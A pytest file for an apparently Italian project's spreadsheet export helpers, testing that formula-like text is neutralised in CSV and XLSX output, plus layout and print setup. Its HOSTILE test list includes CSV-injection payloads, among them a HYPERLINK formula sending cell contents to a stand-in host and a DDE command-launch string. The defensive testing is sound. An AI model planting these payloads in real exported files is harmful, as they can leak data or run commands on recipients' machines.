from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from supervisione.lib.exports import (
    HEADER_FILL,
    append,
    column_widths,
    csv_bytes,
    is_formula_like,
    neutralise,
    put,
    restore,
    set_widths,
    style_header,
    workbook_bytes,
    write_table,
)

HOSTILE = [
    '=HYPERLINK("http://esempio.invalid/?d="&C2,"Apri")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
]
HARMLESS = ["Rossi", "", "De Santis", "12", "-12,50", "+7", "3.5", "Anna-Maria", "a=b", "mail@example.it"]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_puts_a_quote_before_formula_like_text(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_it_leaves_other_text_and_plain_numbers_alone(text: str) -> None:
    assert not is_formula_like(text)
    assert neutralise(text) == text
    assert restore(text) == text


def test_restore_takes_off_only_the_quote_neutralise_put() -> None:
    assert restore("'Rossi") == "'Rossi"
    assert restore("'-12") == "'-12"
    assert neutralise("'=1") == "''=1"
    assert restore(neutralise("'=1")) == "'=1"


@example("'=1")
@example("''@x")
@given(st.text())
def test_restore_undoes_neutralise_and_neutralised_text_is_never_formula_like(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not is_formula_like(neutralise(text))


def test_csv_bytes_neutralises_text_only() -> None:
    content = csv_bytes([["Nome", "Ore"], ["=1+1", "-2"], [None, Decimal("-1.5")], ["@x", 3]])
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert rows == [["Nome", "Ore"], ["'=1+1", "-2"], ["", "-1.5"], ["'@x", "3"]]


def test_xlsx_cells_keep_text_as_text_and_numbers_as_numbers() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    append(sheet, ["=1+1", -2, Decimal("-1.5"), datetime.date(2026, 1, 2), "-2+3", "Rossi", None])
    put(sheet, 2, 1, '=HYPERLINK("http://esempio.invalid","x")')
    put(sheet, 2, 2, "a\x00b\x07c\td")
    sheet.cell(row=3, column=1, value="=SUM(A1:A2)")  # written without the helpers: caught on saving
    read = load_workbook(io.BytesIO(workbook_bytes(workbook)))
    cells = read.active
    assert cells is not None
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells[1][:6]] == [
        ("=1+1", "s", True),
        (-2, "n", False),
        (-1.5, "n", False),
        (datetime.datetime(2026, 1, 2), "d", False),  # noqa: DTZ001  (openpyxl reads naive dates)
        ("-2+3", "s", True),
        ("Rossi", "s", False),
    ]
    assert (cells["A2"].value, cells["A2"].data_type, cells["A2"].quotePrefix) == (
        '=HYPERLINK("http://esempio.invalid","x")',
        "s",
        True,
    )
    assert cells["B2"].value == "abc\td"  # characters XML cannot hold are dropped, not an error
    assert (cells["A3"].value, cells["A3"].data_type) == ("=SUM(A1:A2)", "s")


def test_it_styles_every_header_and_width_the_same_way() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Titolo"])
    sheet.append(["Ore", "Euro"])
    style_header(sheet, 2, 2)
    set_widths(sheet, [12, 30])
    assert [sheet.cell(row=2, column=c).font.b for c in (1, 2, 3)] == [True, True, False]
    assert sheet["B2"].fill.fgColor.rgb == HEADER_FILL.fgColor.rgb
    assert sheet["A1"].font.b is False
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (12, 30)


def test_it_fits_every_sheet_to_the_width_of_a_printed_page() -> None:
    workbook = Workbook()
    wide = workbook.active
    assert wide is not None
    wide.title = "Larga"
    write_table(wide, ["Colonna"] * 12, [["valore"] * 12] * 3, [12] * 12, start=3)
    narrow = workbook.create_sheet("Stretta")
    write_table(narrow, ["Voce", "Valore"], [["Anno", 2027]], [30, 12])
    write_table(narrow, ["Altra", "Tabella"], [["x", 1]], [30, 12], start=5)
    read = load_workbook(io.BytesIO(workbook_bytes(workbook, title="POA 2027 & allegati")))
    assert read.properties.title == "POA 2027 & allegati"
    for sheet in read.worksheets:
        assert sheet.page_setup.paperSize == 9  # A4
        assert sheet.sheet_properties.pageSetUpPr is not None
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        header, footer = sheet.oddHeader, sheet.oddFooter
        assert header is not None
        assert footer is not None
        assert (header.left.text, header.right.text) == ("POA 2027 && allegati", "&A")  # title, sheet's name
        assert footer.center.text == "Pagina &P di &N"
    larga, stretta = read.worksheets
    assert (larga.page_setup.orientation, stretta.page_setup.orientation) == ("landscape", "portrait")
    assert larga.print_title_rows == "$3:$3"  # its table's header on every page
    assert not stretta.print_title_rows  # two tables: each keeps its own header


def test_it_gives_word_tables_columns_as_wide_as_their_words_within_the_page() -> None:
    headers = ["Gruppo", "Ore", "Motivo"]
    rows = [["Gruppo A1 n. 1", "16", "Gruppo A1 n. 1: 14 di 16 h erogate, nessun incontro in calendario " * 2]]
    widths = column_widths(headers, rows, [False, True, False], available=480, font_size=8)
    assert sum(widths) == pytest.approx(480)
    assert widths[2] > widths[0] > widths[1]  # the long text gets the room, the number what it needs
    assert widths[1] >= 3 * 8 * 0.55  # "Ore" whole
    short = column_widths(["A", "B"], [["1", "2"]], [True, True], available=480, font_size=8)
    assert short[0] == pytest.approx(short[1])
